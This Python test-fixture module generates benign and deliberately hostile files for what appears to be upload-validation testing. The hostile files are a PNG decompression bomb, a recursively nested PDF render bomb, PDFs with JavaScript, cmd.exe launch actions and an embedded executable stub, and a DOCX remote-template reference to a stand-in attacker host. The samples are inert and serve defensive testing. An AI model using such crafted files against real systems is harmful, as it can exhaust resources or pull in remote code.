"""Good and hostile files, made on the spot: no such file lies in the repository."""

import random
import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
import xlsxwriter
from PIL import Image

GPS, ORIENTATION = 0x8825, 0x0112


def picture(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: Any) -> bytes:
    """A picture whose left half is red (black without colours) and whose right half is white."""
    image = Image.new("RGB", size, "white")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    out = BytesIO()
    image.convert(mode).save(out, kind, **options)
    return out.getvalue()


def photo_with_place(orientation: int = 6) -> bytes:
    """A JPEG as a telephone makes it: lying on its side, with the place it was taken."""
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif.get_ifd(GPS)[1] = "S"
    exif.get_ifd(GPS)[2] = (7.0, 58.0, 48.0)
    return picture("JPEG", exif=exif)


def tiff(pages: int, mode: str = "1") -> bytes:
    images = [Image.new(mode, (80, 100), 1) for _ in range(pages)]
    out = BytesIO()
    images[0].save(out, "TIFF", save_all=True, append_images=images[1:], compression="group4" if mode == "1" else None)
    return out.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """A few kilobytes that claim to be `width` by `height` white pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(10_000)))
        + chunk(b"IEND", b"")
    )


def pdf(pages: int = 1, **saving: Any) -> bytes:
    """A PDF of empty A4 pages."""
    return changed_pdf(lambda _document: None, pages, **saving)


def heavy_pdf(size: int) -> bytes:
    """A PDF of at least `size` bytes: a page with a long noise behind it that nothing shows."""
    noise = random.Random(size).randbytes(size)
    return changed_pdf(lambda document: document.Root.__setitem__("/Noise", document.make_stream(noise)))


def changed_pdf(change: Any, pages: int = 1, **saving: Any) -> bytes:
    """A PDF after `change(document)`."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    change(document)
    out = BytesIO()
    document.save(out, **saving)
    return out.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def with_launch(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))


def with_stowaway(document: pikepdf.Pdf) -> None:
    document.attachments["virus.exe"] = b"MZ"


def with_web_link(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://malangkota.go.id"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    document.pages[0].Annots = pikepdf.Array([link])


def endless_pdf() -> bytes:
    """A page whose drawing never seems to end: a form that draws itself many times, many levels deep."""

    def nest(document: pikepdf.Pdf) -> None:
        inner = document.make_stream(b"0 0 500 800 re f " * 20, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form)
        inner.BBox = pikepdf.Array([0, 0, 595, 842])
        for _ in range(9):
            resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=inner))
            outer = document.make_stream(b"/A Do " * 12, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form)
            outer.BBox, outer.Resources, inner = pikepdf.Array([0, 0, 595, 842]), resources, outer
        document.pages[0].Contents = document.make_stream(b"/A Do")
        document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=inner))

    return changed_pdf(nest)


def xlsx() -> bytes:
    out = BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Nama", "Jumlah"])
        sheet.write_url(1, 0, "https://malangkota.go.id")
    return out.getvalue()


_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)


def docx(**more: bytes) -> bytes:
    """A small DOCX; `more` are further parts, `__` in their names stands for a slash and `_DOT_` for a dot."""
    parts = {"[Content_Types].xml": _TYPES.encode(), "word/document.xml": b"<w:document/>"}
    parts |= {name.replace("__", "/").replace("_DOT_", "."): content for name, content in more.items()}
    return package(parts)


def package(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()


def locked_package() -> bytes:
    """A DOCX whose parts say that they are encrypted."""
    content = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + place] |= 1
            start = content.find(mark, start + 4)
    return bytes(content)


REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://jahat.example/a.dotm" TargetMode="External"/></Relationships>'
)
EOCD_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
